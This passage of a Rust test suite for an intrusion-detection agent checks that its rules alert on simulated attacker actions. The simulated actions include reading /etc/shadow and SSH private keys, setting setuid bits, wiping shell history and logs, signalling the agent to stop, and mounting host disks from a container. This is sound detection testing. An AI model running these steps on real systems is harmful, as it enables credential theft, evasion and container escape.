        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(lines.len() >= 20);
    for l in &lines {
        let keys: Vec<_> = l.as_object().unwrap().keys().cloned().collect();
        assert_eq!(keys.len(), 5, "{l}");
        assert_eq!(l["status"], "loaded", "{l}");
        assert_eq!(l["source"], "builtin");
    }
    // A custom directory beside it, and a file that does not parse.
    let good = d.join("good");
    std::fs::create_dir_all(&good).unwrap();
    std::fs::write(good.join("a.yaml"), CUSTOM.replace("MARK", "m")).unwrap();
    let out = kestrel()
        .args(["rules", "check", "--no-builtin-rules", "--rules"])
        .arg(&good)
        .output()
        .unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(
        text.trim(),
        r#"{"rule_id":"test.two_steps","title":"two marked execs","source":"custom","status":"loaded","reason":""}"#
    );
    let bad = d.join("bad");
    std::fs::create_dir_all(&bad).unwrap();
    std::fs::write(
        bad.join("b.yaml"),
        "rules:\n- id: x\n  name: X\n  severity: hgh\n  condition: {field: a, equals: b}\n",
    )
    .unwrap();
    let out = kestrel()
        .args(["rules", "check", "--rules"])
        .arg(&bad)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(&format!("{}:4:", bad.join("b.yaml").display())),
        "{err}"
    );

    // Replay: an exec from memfd and the two marked execs, as the agent
    // writes them; the alerts come out in the agent's format.
    let events = d.join("events.json");
    std::fs::write(
        &events,
        [
            r#"{"data_type":"59","exe":"/memfd:x (deleted)","exe_memfd":"true","res":"0","time":"1000","pid":"5","tgid":"5","event_id":"a-1-0"}"#,
            r#"{"data_type":"59","exe":"/usr/bin/true","argv":"true m-a","res":"0","time":"2000","event_id":"a-1-1"}"#,
            r#"{"data_type":"59","exe":"/usr/bin/true","argv":"true m-b","res":"0","time":"3000","event_id":"a-1-2"}"#,
            // A module from /tmp, one from the module tree, a finding.
            r#"{"data_type":"603","exe":"/usr/bin/kmod","lkm_file":"/tmp/rk.ko","res":"0","time":"4000","event_id":"a-1-3"}"#,
            r#"{"data_type":"603","exe":"/usr/bin/kmod","lkm_file":"/lib/modules/6.1.0/kernel/fs/fuse.ko","res":"0","time":"4001","event_id":"a-1-4"}"#,
            r#"{"data_type":"702","module_name":"kestrel_rk","hidden":"1","seen_by":"mod_tree","time":"5000","event_id":"a-1-5"}"#,
        ]
        .join("\n"),
    )
    .unwrap();
    let out = kestrel()
        .args(["rules", "test", "--events"])
        .arg(&events)
        .arg("--rules")
        .arg(&good)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let alerts: Vec<Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let ids: Vec<_> = alerts.iter().map(|a| field(a, "rule_id")).collect();
    assert_eq!(
        ids,
        [
            "kestrel.execution.fileless",
            "test.two_steps",
            "kestrel.persistence.kernel_module",
            "kestrel.defense_evasion.rootkit_finding"
        ]
    );
    assert_eq!(field(&alerts[2], "trigger_event_ids"), "a-1-3");
    assert_eq!(field(&alerts[3], "mitre_technique"), "T1014");
    assert_eq!(field(&alerts[0], "source"), "builtin");
    assert_eq!(field(&alerts[0], "trigger_event_ids"), "a-1-0");
    assert_eq!(field(&alerts[1], "source"), "custom");
    assert_eq!(field(&alerts[1], "trigger_event_ids"), "a-1-1,a-1-2");
    assert_eq!(field(&alerts[1], "data_type"), "9000");
    // A line that is not JSON: named.
    std::fs::write(&events, "{\"data_type\":\"59\"}\nnot json\n").unwrap();
    let out = kestrel()
        .args(["rules", "test", "--events"])
        .arg(&events)
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains(&format!("{}:2:", events.display())));
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn bad_rule_files_stop_the_agent_and_sighup_reloads_keeping_state() {
    let d = scratch("reload");
    let dir = d.join("rules");
    std::fs::create_dir_all(&dir).unwrap();
    // A file that does not parse: the agent refuses to start, naming it.
    std::fs::write(dir.join("bad.yaml"), "rules:\n- id: x\n  nme: X\n").unwrap();
    let out = kestrel()
        .args(["agent", "--no-logins", "--state-dir"])
        .arg(d.join("state"))
        .arg("--rules")
        .arg(&dir)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(&format!("{}:3:", dir.join("bad.yaml").display())),
        "{err}"
    );

    let m = marker("rl");
    std::fs::write(dir.join("bad.yaml"), CUSTOM.replace("MARK", &m)).unwrap();
    let dirs = dir.display().to_string();
    let agent = agent(&["--rules", &dirs]);
    Command::new("/usr/bin/true")
        .arg(format!("{m}-a"))
        .status()
        .unwrap();
    agent.wait_for("the first step", |e| {
        e["data_type"] == "59"
            && e["argv"]
                .as_str()
                .is_some_and(|a| a.contains(&format!("{m}-a")))
    });
    // Another rule added, and a broken file given then fixed: the
    // unchanged rule keeps its first step across both reloads.
    std::fs::write(dir.join("more.yaml"), "rules: [\n").unwrap();
    // SAFETY: signalling our own child.
    unsafe { libc::kill(agent.pid() as i32, libc::SIGHUP) };
    let deadline = Instant::now() + Duration::from_secs(10);
    while !agent.stderr().contains("reloading the rules failed") {
        assert!(
            Instant::now() < deadline,
            "no failed reload logged:\n{}",
            agent.stderr()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    std::fs::write(
        dir.join("more.yaml"),
        format!("rules:\n- id: test.more\n  name: more\n  severity: info\n  condition: {{field: argv, contains: {m}-c}}\n"),
    )
    .unwrap();
    unsafe { libc::kill(agent.pid() as i32, libc::SIGHUP) };
    let deadline = Instant::now() + Duration::from_secs(10);
    while !agent.stderr().contains("detection rules reloaded") {
        assert!(
            Instant::now() < deadline,
            "no reload logged:\n{}",
            agent.stderr()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    Command::new("/usr/bin/true")
        .arg(format!("{m}-b"))
        .status()
        .unwrap();
    let a = agent.wait_for("the sequence across the reloads", |e| {
        e["data_type"] == "9000" && e["rule_id"] == "test.two_steps"
    });
    assert_eq!(field(&a, "source"), "custom");
    Command::new("/usr/bin/true")
        .arg(format!("{m}-c"))
        .status()
        .unwrap();
    agent.wait_for("the rule added by the reload", |e| {
        e["data_type"] == "9000" && e["rule_id"] == "test.more"
    });
    let c = agent.stop();
    assert_eq!(c["rule_reloads"], 1);
    assert_eq!(c["rule_reload_failures"], 1);
    assert!(c["alerts"] >= 2);
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn signals_that_stop_the_agent_alert() {
    let rule = "kestrel.defense_evasion.kill_agent";
    let agent = agent(&[]);
    let pid = agent.pid().to_string();
    // Benign: SIGHUP reloads rules and re-opens the output.
    assert!(Command::new("/usr/bin/kill")
        .args(["-HUP", &pid])
        .status()
        .unwrap()
        .success());
    // SIGSTOP then SIGCONT from kill(1): the alert comes once it runs.
    assert!(Command::new("/usr/bin/kill")
        .args(["-STOP", &pid])
        .status()
        .unwrap()
        .success());
    std::thread::sleep(Duration::from_millis(300));
    assert!(Command::new("/usr/bin/kill")
        .args(["-CONT", &pid])
        .status()
        .unwrap()
        .success());
    let a = agent.wait_for("the SIGSTOP alert", |e| {
        e["data_type"] == "9000" && e["rule_id"] == rule && e["exe"] == "/usr/bin/kill"
    });
    assert_eq!(field(&a, "mitre_technique"), "T1562.001");
    let t = triggers(&agent, &a);
    assert_eq!(t[0]["sig"], "19");
    assert_eq!(t[0]["target_tgid"].as_str(), Some(pid.as_str()));
    std::thread::sleep(Duration::from_millis(500));
    assert!(
        !alerts(&agent, rule)
            .iter()
            .any(|a| triggers(&agent, a)[0]["sig"] == "1"),
        "SIGHUP alerted"
    );
    // SIGTERM from a script: the agent drains what the kernel captured
    // before it exits, the alert with it.
    agent.stop();
    let out = std::env::temp_dir().join(marker("killag"));
    let agent2 = Agent::start_to_file(&out, &["--alert-suppress-secs", "0"]);
    let pid2 = agent2.pid();
    Command::new("perl")
        .args(["-e", &format!("kill 'TERM', {pid2}")])
        .status()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let text = std::fs::read_to_string(&out).unwrap_or_default();
        if text
            .lines()
            .any(|l| l.contains(rule) && l.contains("\"exe\":\"/usr/bin/perl\""))
        {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no alert for the SIGTERM:\n{}",
            agent2.stderr()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    drop(agent2);
    let _ = std::fs::remove_file(out);
}

/// The agent's JSON lines output file, read back.
fn file_events(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

#[test]
fn the_server_s_reload_rules_command_answers_and_keeps_state() {
    use crate::support::server::{ctl, start_server, wait_until, Proc};
    let _serial = crate::support::serial();
    let (grpc, http) = (18472, 18473);
    let d = scratch("srvreload");
    let data = d.join("server");
    let server = start_server(&data, grpc, http, &[]);
    let dir = d.join("rules");
    std::fs::create_dir_all(&dir).unwrap();
    let m = marker("sr");
    std::fs::write(dir.join("a.yaml"), CUSTOM.replace("MARK", &m)).unwrap();
    let out = d.join("a.jsonl");
    let agent = Proc::spawn(
        kestrel()
            .args(["agent", "--no-logins", "--inventory-interval-hours", "0"])
            .args(["--rootkit-scan-interval-hours", "0"])
            .args(["--server", &format!("127.0.0.1:{grpc}")])
            .arg("--ca-file")
            .arg(data.join("ca.pem"))
            .arg("--enroll-token-file")
            .arg(data.join("enroll.token"))
            .arg("--state-dir")
            .arg(d.join("state"))
            .arg("--rules")
            .arg(&dir)
            .arg("--output")
            .arg(format!("file:{}", out.display()))
            .args(["--heartbeat-secs", "1"]),
        "control: connected",
    );
    let id = std::fs::read_to_string(d.join("state/agent-id")).unwrap();
    let reload = || ctl(&data, http, &["command", &id, "reload-rules"]);
    let argv_has = |e: &Value, s: &str| e["argv"].as_str().is_some_and(|a| a.contains(s));
    Command::new("/usr/bin/true")
        .arg(format!("{m}-a"))
        .status()
        .unwrap();
    wait_until(30, || {
        file_events(&out)
            .iter()
            .any(|e| e["data_type"] == "59" && argv_has(e, &format!("{m}-a")))
            .then_some(())
    })
    .expect("the first step was not seen");
    // A file that does not parse: the command fails with the file and
    // line, and the rules in force stay.
    std::fs::write(dir.join("more.yaml"), "rules:\n- id: x\n  nme: X\n").unwrap();
    let r = wait_until(30, || {
        let o = reload();
        (!o.stderr.is_empty() || !o.stdout.is_empty()).then_some(o)
    })
    .expect("no answer to reload-rules");
    assert!(!r.status.success(), "a broken file was accepted: {r:?}");
    let err = String::from_utf8_lossy(&r.stderr);
    assert!(
        err.contains(&format!("{}:3", dir.join("more.yaml").display())),
        "{r:?}"
    );
    // Fixed, with a rule added: accepted, and the unchanged rule's first
    // step survives.
    std::fs::write(
        dir.join("more.yaml"),
        format!("rules:\n- id: test.more\n  name: more\n  severity: info\n  condition: {{field: argv, contains: {m}-c}}\n"),
    )
    .unwrap();
    let r = reload();
    assert!(r.status.success(), "{r:?}");
    let said = String::from_utf8_lossy(&r.stdout);
    assert!(said.contains("rules compiled"), "{r:?}");
    // The swap happens between two events: a later event finds the new
    // rules in force.
    for step in ["b", "c"] {
        Command::new("/usr/bin/true")
            .arg(format!("{m}-{step}"))
            .status()
            .unwrap();
    }
    wait_until(30, || {
        let evs = file_events(&out);
        let has = |rule: &str| {
            evs.iter()
                .any(|e| e["data_type"] == "9000" && e["rule_id"] == rule)
        };
        (has("test.two_steps") && has("test.more")).then_some(())
    })
    .unwrap_or_else(|| panic!("the reloaded rules did not alert: {}", agent.stderr()));
    assert!(agent.stderr().contains("detection rules reloaded"));
    agent.stop();
    server.stop();
    let _ = std::fs::remove_dir_all(d);
}

/// The first event of `data_type` whose `key` is `path`.
fn event_on(agent: &Agent, data_type: &str, key: &str, path: &Path) -> Value {
    let p = path.to_str().unwrap().to_string();
    agent.wait_for(&format!("the {data_type} of {p}"), |e| {
        e["data_type"] == data_type && e[key].as_str() == Some(&p)
    })
}

/// The alert of `rule` made of `ev`: events without argv (file, path and
/// mode events) give alerts without it, so they are found by their trigger.
fn alert_from(agent: &Agent, rule: &str, ev: &Value) -> Value {
    let id = field(ev, "event_id").to_string();
    let a = agent.wait_for(&format!("an alert {rule} from {id}"), |e| {
        e["data_type"] == "9000"
            && e["rule_id"] == rule
            && field(e, "trigger_event_ids").split(',').any(|t| t == id)
    });
    assert_eq!(field(&a, "source"), "builtin");
    assert_eq!(a["tgid"], ev["tgid"], "{a}");
    a
}

/// After a wait for late events, no alert of `rule` was made of an event
/// matching `benign`.
fn assert_no_alert_from(agent: &Agent, rule: &str, benign: impl Fn(&Value) -> bool) {
    std::thread::sleep(Duration::from_millis(1500));
    let evs = agent.events();
    let ids: Vec<&str> = evs
        .iter()
        .filter(|e| benign(e))
        .filter_map(|e| e["event_id"].as_str())
        .collect();
    let bad: Vec<_> = alerts(agent, rule)
        .into_iter()
        .filter(|a| {
            field(a, "trigger_event_ids")
                .split(',')
                .any(|t| ids.contains(&t))
        })
        .collect();
    assert!(bad.is_empty(), "{rule} fired on a benign event: {bad:?}");
}

#[test]
fn setuid_and_setgid_bits_set_on_files() {
    let rule = "kestrel.privilege_escalation.setuid_bit";
    let d = scratch("setid");
    let agent = agent(&[]);
    // A 90 event carries no argv, nor does its alert: the alert is found
    // through the event it was made of.
    let chmod_of = |p: &Path| event_on(&agent, "90", "file", p);
    let alert_of = |ev: &Value| alert_from(&agent, rule, ev);
    let copy = |name: &str| {
        let p = d.join(name);
        std::fs::copy("/usr/bin/true", &p).unwrap();
        p
    };
    // chmod(1) symbolic and octal, python's os.chmod and os.fchmod, perl's
    // chmod, install(1) -m: every one sets a set-id bit.
    let variants: Vec<(PathBuf, Vec<String>)> = vec![
        (copy("sym"), vec!["chmod".into(), "u+s".into()]),
        (copy("oct"), vec!["chmod".into(), "2755".into()]),
        (
            copy("py"),
            vec![
                "python3".into(),
                "-c".into(),
                "import os,sys; os.chmod(sys.argv[1], 0o4711)".into(),
            ],
        ),
        (
            copy("pyfd"),
            vec![
                "python3".into(),
                "-c".into(),
                "import os,sys; fd=os.open(sys.argv[1], os.O_RDONLY); os.fchmod(fd, 0o6755)".into(),
            ],
        ),
        (
            copy("pl"),
            vec!["perl".into(), "-e".into(), "chmod 04755, $ARGV[0]".into()],
        ),
    ];
    for (p, cmd) in &variants {
        let ok = Command::new(&cmd[0])
            .args(&cmd[1..])
            .arg(p)
            .status()
            .unwrap()
            .success();
        assert!(ok, "{cmd:?} failed");
        let ev = chmod_of(p);
        let a = alert_of(&ev);
        assert!(field(&a, "mitre_technique").contains("T1548.001"), "{a}");
        assert_eq!(field(&a, "source"), "builtin");
        assert_eq!(a["tgid"], ev["tgid"]);
    }
    let installed = d.join("installed");
    assert!(Command::new("install")
        .args(["-m", "4755", "/usr/bin/true"])
        .arg(&installed)
        .status()
        .unwrap()
        .success());
    alert_of(&chmod_of(&installed));

    // Benign: plain modes, and the package manager installing a setuid
    // file of its own.
    let plain = copy("plain");
    assert!(Command::new("chmod")
        .args(["0755"])
        .arg(&plain)
        .status()
        .unwrap()
        .success());
    let m = marker("sp");
    let tag: String = m.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
    let pkg = format!("kestrel-setid-{}", &tag[tag.len() - 12..]);
    let root = d.join("pkgroot");
    std::fs::create_dir_all(root.join("DEBIAN")).unwrap();
    std::fs::write(
        root.join("DEBIAN/control"),
        format!(
            "Package: {pkg}\nVersion: 1.0\nArchitecture: all\nMaintainer: kestrel tests <t@example.org>\nDescription: test package\n"
        ),
    )
    .unwrap();
    let bin = format!("/usr/local/bin/{pkg}");
    let staged = root.join(bin.trim_start_matches('/'));
    std::fs::create_dir_all(staged.parent().unwrap()).unwrap();
    std::fs::copy("/usr/bin/true", &staged).unwrap();
    std::fs::set_permissions(&staged, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let deb = d.join(format!("{pkg}.deb"));
    assert!(Command::new("dpkg-deb")
        .args(["--build", "--root-owner-group"])
        .arg(&root)
        .arg(&deb)
        .stdout(Stdio::null())
        .status()
        .unwrap()
        .success());
    assert!(Command::new("dpkg")
        .arg("-i")
        .arg(&deb)
        .stdout(Stdio::null())
        .status()
        .unwrap()
        .success());
    // The package's own 90 is real: dpkg made the file set-uid.
    let by_dpkg = agent.wait_for("dpkg's 90", |e| {
        e["data_type"] == "90" && e["file"].as_str().is_some_and(|f| f.starts_with(&bin))
    });
    assert_eq!(field(&by_dpkg, "exe"), "/usr/bin/dpkg");
    // A later variant's alert, then nothing for the benign ones.
    let last = copy("last");
    Command::new("chmod")
        .arg("g+s")
        .arg(&last)
        .status()
        .unwrap();
    alert_of(&chmod_of(&last));
    std::thread::sleep(Duration::from_millis(1500));
    let benign: Vec<String> = agent
        .events()
        .iter()
        .filter(|e| {
            e["data_type"] == "90"
                && e["file"]
                    .as_str()
                    .is_some_and(|f| f == plain.to_str().unwrap() || f.starts_with(&bin))
        })
        .map(|e| field(e, "event_id").to_string())
        .collect();
    let bad: Vec<_> = alerts(&agent, rule)
        .into_iter()
        .filter(|a| {
            field(a, "trigger_event_ids")
                .split(',')
                .any(|t| benign.iter().any(|b| b == t))
        })
        .collect();
    assert!(bad.is_empty(), "{rule} fired on a benign change: {bad:?}");
    let _ = Command::new("dpkg")
        .args(["--purge", &pkg])
        .stdout(Stdio::null())
        .status();
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn password_hashes_and_private_keys_read() {
    let rule = "kestrel.credential_access.shadow_or_key_read";
    let d = scratch("credread");
    let agent = agent(&[]);
    // A private key of this test's own under /root/.ssh (a watched
    // default), and its public half.
    let tag: String = marker("k")
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .collect();
    std::fs::create_dir_all("/root/.ssh").unwrap();
    let key = PathBuf::from(format!("/root/.ssh/id_kestrel{tag}"));
    assert!(Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(&key)
        .status()
        .unwrap()
        .success());
    let public = PathBuf::from(format!("{}.pub", key.display()));
    let found = |comm: &'static str, file: &Path| {
        let f = file.to_str().unwrap().to_string();
        agent.wait_for(&format!("{comm}'s 609 of {f}"), move |e| {
            e["data_type"] == "609" && e["file"].as_str() == Some(&f) && e["comm"] == comm
        })
    };
    // Readers: cat, cp to a scratch file, python, perl, dd; shadow,
    // gshadow and the private key.
    let runs: Vec<(&'static str, Vec<String>, PathBuf)> = vec![
        (
            "cat",
            vec!["cat".into(), "/etc/shadow".into()],
            "/etc/shadow".into(),
        ),
        (
            "cp",
            vec![
                "cp".into(),
                "/etc/gshadow".into(),
                d.join("g").display().to_string(),
            ],
            "/etc/gshadow".into(),
        ),
        (
            "python3",
            vec![
                "python3".into(),
                "-c".into(),
                "open('/etc/shadow').read()".into(),
            ],
            "/etc/shadow".into(),
        ),
        (
            "perl",
            vec![
                "perl".into(),
                "-e".into(),
                format!(
                    "open(my $f, '<', '{}') or die; my @l = <$f>;",
                    key.display()
                ),
            ],
            key.clone(),
        ),
        (
            "dd",
            vec![
                "dd".into(),
                format!("if={}", key.display()),
                "of=/dev/null".into(),
                "status=none".into(),
            ],
            key.clone(),
        ),
    ];
    for (comm, cmd, file) in &runs {
        let ok = Command::new(&cmd[0])
            .args(&cmd[1..])
            .stdout(Stdio::null())
            .status()
            .unwrap()
            .success();
        assert!(ok, "{cmd:?} failed");
        let a = alert_from(&agent, rule, &found(comm, file));
        let t = field(&a, "mitre_technique");
        assert!(t.contains("T1003.008") && t.contains("T1552.004"), "{a}");
    }
    // Benign: the account tools and the ssh tools reading what is theirs,
    // and anyone reading the public key.
    assert!(Command::new("passwd")
        .args(["-S", "root"])
        .stdout(Stdio::null())
        .status()
        .unwrap()
        .success());
    assert!(Command::new("ssh-keygen")
        .arg("-y")
        .arg("-f")
        .arg(&key)
        .stdout(Stdio::null())
        .status()
        .unwrap()
        .success());
    assert!(Command::new("cat")
        .arg(&public)
        .stdout(Stdio::null())
        .status()
        .unwrap()
        .success());
    found("ssh-keygen", &key);
    found("passwd", Path::new("/etc/shadow"));
    assert_no_alert_from(&agent, rule, |e| {
        e["data_type"] == "609"
            && (e["comm"] == "passwd"
                || e["comm"] == "ssh-keygen"
                || e["file"].as_str() == public.to_str())
    });
    agent.stop();
    let _ = std::fs::remove_file(&key);
    let _ = std::fs::remove_file(&public);
    let _ = std::fs::remove_dir_all(d);
}

#[test]
fn history_and_logs_removed_emptied_or_redirected() {
    let rule = "kestrel.defense_evasion.history_or_log_tampering";
    let d = scratch("tamper");
    let home = d.join("home");
    std::fs::create_dir_all(&home).unwrap();
    let agent = agent(&[]);
    let tag: String = marker("l")
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .collect();
    let log = PathBuf::from(format!("/var/log/kestrel-test-{tag}.log"));
    let old_log = PathBuf::from(format!("/var/log/kestrel-test-{tag}.log.1"));
    let moved = d.join("gone.log");
    for (name, content) in [
        (".bash_history", "ls\n"),
        (".zsh_history", "ls\n"),
        (".python_history", "1\n"),
    ] {
        std::fs::write(home.join(name), content).unwrap();
    }
    std::fs::write(&log, "line\n").unwrap();
    std::fs::write(&old_log, "line\n").unwrap();
    let h = |n: &str| home.join(n);
    // rm, unlink(2) from python, mv away, ln -sf to /dev/null, shell
    // truncation of a log and truncate(1).
    assert!(Command::new("rm")
        .arg(h(".bash_history"))
        .status()
        .unwrap()
        .success());
    alert_from(
        &agent,
        rule,
        &event_on(&agent, "605", "file", &h(".bash_history")),
    );
    assert!(Command::new("python3")
        .args(["-c", "import os,sys; os.unlink(sys.argv[1])"])
        .arg(h(".python_history"))
        .status()
        .unwrap()
        .success());
    alert_from(
        &agent,
        rule,
        &event_on(&agent, "605", "file", &h(".python_history")),
    );
    assert!(Command::new("mv")
        .arg(h(".zsh_history"))
        .arg(d.join("z"))
        .status()
        .unwrap()
        .success());
    alert_from(
        &agent,
        rule,
        &event_on(&agent, "82", "old_name", &h(".zsh_history")),
    );
    assert!(Command::new("ln")
        .args(["-s", "/dev/null"])
        .arg(h(".bash_history"))
        .status()
        .unwrap()
        .success());
    alert_from(
        &agent,
        rule,
        &event_on(&agent, "86", "new_name", &h(".bash_history")),
    );
    assert!(sh(&format!(": > {}", log.display())).success());
    let by_sh = agent.wait_for("the shell's 608", |e| {
        e["data_type"] == "608" && e["file"].as_str() == log.to_str() && e["comm"] == "sh"
    });
    assert_eq!(field(&by_sh, "truncates"), "true");
    let a = alert_from(&agent, rule, &by_sh);
    assert!(field(&a, "mitre_technique").contains("T1070.002"), "{a}");
    assert!(Command::new("truncate")
        .args(["-s", "0"])
        .arg(&log)
        .status()
        .unwrap()
        .success());
    // truncate(1) opens without O_TRUNC, then ftruncate(2)s: the second
    // of its two 608s is the cut.
    let tr = agent.wait_for("truncate(1)'s ftruncate", |e| {
        e["data_type"] == "608" && e["file"].as_str() == log.to_str() && e["syscall"] == "ftruncate"
    });
    assert_eq!(field(&tr, "truncates"), "true");
    alert_from(&agent, rule, &tr);
    assert!(Command::new("mv")
        .arg(&old_log)
        .arg(&moved)
        .status()
        .unwrap()
        .success());
    alert_from(&agent, rule, &event_on(&agent, "82", "old_name", &old_log));
    assert!(Command::new("rm").arg(&log).status().unwrap().success());
    alert_from(&agent, rule, &event_on(&agent, "605", "file", &log));

    // Benign: files that are neither history nor logs, removed and
    // renamed; a log appended to.
    let notes = h("history.txt");
    std::fs::write(&notes, "x").unwrap();
    assert!(Command::new("rm").arg(&notes).status().unwrap().success());
    event_on(&agent, "605", "file", &notes);
    let app = PathBuf::from(format!("/var/log/kestrel-test-{tag}.app"));
    assert!(sh(&format!("echo x >> {0}; echo y >> {0}", app.display())).success());
    // The setup's own writes made the log files: new, nothing cut.
    assert_no_alert_from(&agent, rule, |e| {
        e["file"].as_str() == notes.to_str()
            || e["file"].as_str() == app.to_str()
            || (e["data_type"] == "608" && e["created"] == "true")
    });
    let _ = std::fs::remove_file(&app);
    agent.stop();
    let _ = std::fs::remove_dir_all(d);
}

/// Runs `cmd` to its end: its pid (every subject here is one process,
/// exec'd but never forked up to the calls checked) and its output.
fn run_pid(mut cmd: Command) -> (String, std::process::Output) {
    let child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id().to_string();
    (pid, child.wait_with_output().unwrap())
}

/// As [`run_pid`], and the command must succeed.
fn run_ok(cmd: Command) -> String {
    let what = format!("{cmd:?}");
    let (pid, out) = run_pid(cmd);
    assert!(out.status.success(), "{what}: {out:?}");
    pid
}

/// The first event of `data_type` by process `pid` that `pred` accepts.
fn event_by(agent: &Agent, data_type: &str, pid: &str, pred: impl Fn(&Value) -> bool) -> Value {
    agent.wait_for(&format!("a {data_type} of process {pid}"), |e| {
        e["data_type"] == data_type && e["tgid"].as_str() == Some(pid) && pred(e)
    })
}

fn python(script: &str) -> Vec<String> {
    vec![
        "/usr/bin/python3".into(),
        "-c".into(),
        format!("{}{script}", crate::support::PY_SYSCALL),
    ]
}

/// A loop device over a small ext4 image, detached when dropped: a block
/// device of the host's that containers can be made to mount.
struct Loop(String);

impl Loop {
    fn new(dir: &Path) -> Loop {
        let img = dir.join("disk.img");
        std::fs::File::create(&img)
            .unwrap()
            .set_len(8 << 20)
            .unwrap();
        assert!(Command::new("mkfs.ext4")
            .args(["-q", "-F"])
            .arg(&img)
            .status()
            .unwrap()
            .success());
        let out = Command::new("losetup")
            .args(["--find", "--show"])
            .arg(&img)
            .output()
            .unwrap();
        assert!(out.status.success(), "losetup: {out:?}");
        Loop(String::from_utf8(out.stdout).unwrap().trim().to_string())
    }
}

impl Drop for Loop {
    fn drop(&mut self) {
        let _ = Command::new("losetup").args(["-d", &self.0]).status();
    }
}

#[test]
fn container_escape_mounts_of_host_block_devices_from_a_container() {
    let rule = "kestrel.privilege_escalation.container_escape";
    let d = scratch("ce-mount");
    let disk = Loop::new(&d);
    let dev = disk.0.as_str();
    let ctr = Container::new();
    let agent = agent(&[]);
    let target = |n: &str| {
        let t = d.join(n);
        std::fs::create_dir_all(&t).unwrap();
        t.display().to_string()
    };
    let mount_of = |pid: &str, dev: &str| {
        let m = event_by(&agent, "165", pid, |e| e["dev"] == dev);
        assert_eq!(field(&m, "container_id"), ctr.id, "{m}");
        assert_eq!(field(&m, "container_runtime"), "docker", "{m}");
        m
    };
    let escape = |m: &Value| {
        let a = alert_from(&agent, rule, m);
        assert_eq!(field(&a, "mitre_technique"), "T1611");
        assert_eq!(field(&a, "severity"), "critical");
        assert_eq!(field(&a, "container_id"), ctr.id, "{a}");
    };
    // mount(8) of the loop device.
    let t = target("m8");
    let pid = run_ok(ctr.command(&["mount", "-o", "ro", dev, &t]));
    let m = mount_of(&pid, dev);
    assert_eq!(field(&m, "syscall"), "mount");
    assert_eq!(field(&m, "fstype"), "ext4");
    assert_eq!(field(&m, "res"), "0");
    escape(&m);
    // mount(2) from python's ctypes.
    let t = target("py");
    let cmd = python(&format!(
        "r = libc.mount(s('{dev}'), s('{t}'), s('ext4'), ctypes.c_ulong(1), NULL)  # MS_RDONLY\n\
         assert r == 0, ctypes.get_errno()"
    ));
    let argv: Vec<&str> = cmd.iter().map(String::as_str).collect();
    let pid = run_ok(ctr.command(&argv));
    escape(&mount_of(&pid, dev));
    // The new mount API: fsopen, fsconfig source, fsmount, move_mount
    // (both reported; the device read from the kernel's mount).
    let t = target("api");
    let cmd = python(&format!(
        "fs = sc(430, s('ext4'), 1)\n\
         assert fs >= 0, fs\n\
         assert sc(431, fs, 1, s('source'), s('{dev}'), 0) == 0  # FSCONFIG_SET_STRING\n\
         assert sc(431, fs, 0, s('ro'), NULL, 0) == 0  # FSCONFIG_SET_FLAG\n\
         assert sc(431, fs, 6, NULL, NULL, 0) == 0  # FSCONFIG_CMD_CREATE\n\
         mfd = sc(432, fs, 1, 1)  # FSMOUNT_CLOEXEC, MOUNT_ATTR_RDONLY\n\
         assert mfd >= 0, mfd\n\
         r = sc(429, mfd, s(''), -100, s('{t}'), 4)  # MOVE_MOUNT_F_EMPTY_PATH\n\
         assert r == 0, r"
    ));
    let argv: Vec<&str> = cmd.iter().map(String::as_str).collect();
    let pid = run_ok(ctr.command(&argv));
    for syscall in ["fsmount", "move_mount"] {
        let m = event_by(&agent, "165", &pid, |e| {
            e["syscall"] == syscall && e["dev"] == dev
        });
        assert_eq!(field(&m, "dev_from"), "kernel", "{m}");
        assert_eq!(field(&m, "container_id"), ctr.id);
        escape(&m);
    }
    // A block device node of the container's own making, with the
    // loop device's numbers, outside /dev (as an escape does with the
    // host disk's major:minor): its name says nothing, its type does.
    let t = target("node");
    let node = d.join("hostdisk").display().to_string();
    let cmd = python(&format!(
        "os.mknod('{node}', stat.S_IFBLK | 0o600, os.stat('{dev}').st_rdev)\n\
         r = libc.mount(s('{node}'), s('{t}'), s('ext4'), ctypes.c_ulong(1), NULL)\n\
         assert r == 0, ctypes.get_errno()"
    ));
    let argv: Vec<&str> = cmd.iter().map(String::as_str).collect();
    let pid = run_ok(ctr.command(&argv));
    escape(&mount_of(&pid, &node));
    // The host's own root disk, read-only over its live mount: refused
    // or made, the attempt is the signal.
    let root = Command::new("findmnt")
        .args(["-n", "-o", "SOURCE", "/"])
        .output()
        .unwrap();
    let root = String::from_utf8(root.stdout).unwrap().trim().to_string();
    if root.starts_with("/dev/") {
        let t = target("root");
        let (pid, _) = run_pid(ctr.command(&["mount", "-o", "ro", &root, &t]));
        escape(&mount_of(&pid, &root));
    } else {
        eprintln!("/ is mounted from {root}, not a block device: that variant skipped");
    }
